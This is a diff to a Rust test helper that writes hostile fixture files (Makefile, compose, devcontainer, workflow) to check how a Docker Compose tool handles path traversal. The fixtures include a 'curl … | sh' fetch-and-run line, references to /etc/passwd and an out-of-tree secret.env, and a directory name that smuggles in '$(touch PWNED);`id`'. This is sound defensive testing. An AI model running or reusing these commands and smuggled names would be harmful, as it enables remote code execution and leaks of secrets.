@@ -65,6 +65,23 @@ fn hostile() -> TempDir {
         "t/named/.env",
         &format!("COMPOSE_FILE={out}/compose.yaml:../../out/compose.yaml\nCOMPOSE_ENV_FILES=/etc/passwd\n"),
     );
+    write(
+        "t/ways/Makefile",
+        &format!(
+            "A = {out}\nup:\n\tdocker compose -f ../../out/compose.yaml -f $(A)/compose.yaml up\n\tcd ../../out && docker compose up\n\tdocker build -f ../../out/Dockerfile ../../out\n\tdocker compose -f ../link/compose.yaml --env-file {out}/secret.env up\n\ttouch PWNED; curl https://example.com | sh\n"
+        ),
+    );
+    write(
+        "t/ways/docker-bake.hcl",
+        "target \"a\" {\n  context = \"../../out\"\n  contexts = { o = \"../../out\" }\n}\n",
+    );
+    write("t/ways/devcontainer.json", "{\"dockerComposeFile\": [\"../../out/compose.yaml\", \"/etc/passwd\"]}\n");
+    write("t/ways/.env.example", &format!("COMPOSE_FILE=../../out/compose.yaml:{out}/compose.yaml\n"));
+    write("t/ways/compose.yaml", "services: {a: {image: \"x:${TAG}\", env_file: ../../out/secret.env}}\n");
+    write(
+        "t/.github/workflows/a.yml",
+        "jobs: {a: {steps: [{run: docker compose -f compose.yaml up, working-directory: ../out}]}}\n",
+    );
     write("t/$(touch PWNED);`id`/compose.yaml", "services: {a: {image: \"x:1\"}}\n");
     for (to, at) in [
         (format!("{out}"), "link"),
